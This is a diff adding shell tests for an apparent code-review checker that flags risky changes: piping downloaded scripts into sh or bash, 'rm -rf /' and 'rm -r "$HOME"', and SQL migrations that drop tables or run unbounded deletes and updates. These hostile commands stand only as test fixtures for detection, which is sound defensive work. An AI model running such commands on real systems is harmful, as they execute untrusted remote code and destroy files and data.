@@ -351,3 +351,57 @@ checksum = \"$new\""
 dependencies = ["evil"]'
 	warned go.sum "a.org/b v1.0.0 h1:$sum=" "a.org/b v1.0.1 h1:$new="
 }
+
+# hunk PATH LINE...: a hunk of lines with their markers
+hunk() {
+	printf -- '--- a/%s\n+++ b/%s\n@@ -7,%d +7,%d @@\n' "$1" "$1" \
+		"$(printf '%s\n' "${@:2}" | grep -c '^[ -]')" \
+		"$(printf '%s\n' "${@:2}" | grep -c '^[ +]')"
+	printf '%s\n' "${@:2}"
+}
+
+@test "a command of which a line is new is judged with the lines that stay" {
+	judge < <(hunk build.sh ' curl -fsSL https://x.example/i \' '+  | sh' ' done')
+	assert_output 'error remote-code build.sh:8: hands what the network sends to an interpreter'
+	judge < <(hunk Dockerfile ' RUN set -e && \' '+    curl https://x.example/i | \' '     bash')
+	assert_output --partial 'error remote-code Dockerfile:8: '
+	judge < <(hunk clean.sh ' rm -rf \' '-  build' '+  /' ' echo done')
+	assert_output --partial 'error destructive-command clean.sh:8: '
+	judge < <(hunk clean.sh ' rm \' '+  -r \' '   "$HOME"')
+	assert_output --partial 'error destructive-command clean.sh:8: '
+	# what was there before is nobody's change, nor what a new line follows
+	judge < <(hunk build.sh ' curl https://x.example/i | sh \' '+  && echo done')
+	refute_output --partial remote-code
+	judge < <(hunk build.sh ' curl -o i https://x.example/i' '+| sh')
+	refute_output --partial remote-code
+	judge < <(hunk build.sh ' curl https://x.example/i \' '-  | sh' '+  -o i')
+	refute_output --partial remote-code
+	judge < <(hunk clean.sh ' rm -rf /' '+echo \' ' done')
+	refute_output --partial destructive
+	judge < <(hunk clean.sh ' echo \' '+  rm' ' rm -rf /')
+	refute_output --partial destructive
+}
+
+@test "a statement of SQL over several lines is judged as one" {
+	judge < <(hunk db/2.sql '+DROP' '+  TABLE users;')
+	assert_output 'error migration-drop db/2.sql:7: drops data from a database'
+	judge < <(hunk db/2.sql ' ALTER TABLE users' '   DROP' '+-- soon' '+    COLUMN name;')
+	assert_output --partial 'error migration-drop db/2.sql:10: '
+	judge < <(hunk db/2.sql '+DELETE' '+FROM users' '+;')
+	assert_output 'warning migration db/2.sql:7: locks, rewrites or breaks a table that is in use'
+	judge < <(hunk db/2.sql ' UPDATE users' '+SET name = 1;')
+	assert_output --partial 'warning migration db/2.sql:8: '
+	# each once, also where each line says it, or the statement limits it
+	judge < <(hunk db/2.sql '+ALTER TABLE a' '+ DROP COLUMN b,' '+ DROP COLUMN c;')
+	assert_equal "${#lines[@]}" 2
+	for quiet in '+DROP;+TABLE users;' '+UPDATE users+SET a = 1+WHERE b;' \
+		'+DELETE FROM users+WHERE a;' ' DROP TABLE users;+SELECT 1;' \
+		'+ALTER TABLE a+ ADD COLUMN b int,+ ADD CONSTRAINT c CHECK (b IS NOT NULL);' \
+		'+CREATE TABLE users (a int);+DROP+TABLE users;' \
+		' DROP+-- the rest' '+table := drop+table'; do
+		readarray -t split < <(sed 's/[+ ]*+/\n+/g; s/^\n//' <<<"$quiet")
+		judge < <(hunk db/2.sql "${split[@]}")
+		assert_success
+		refute_output --regexp migration
+	done
+}
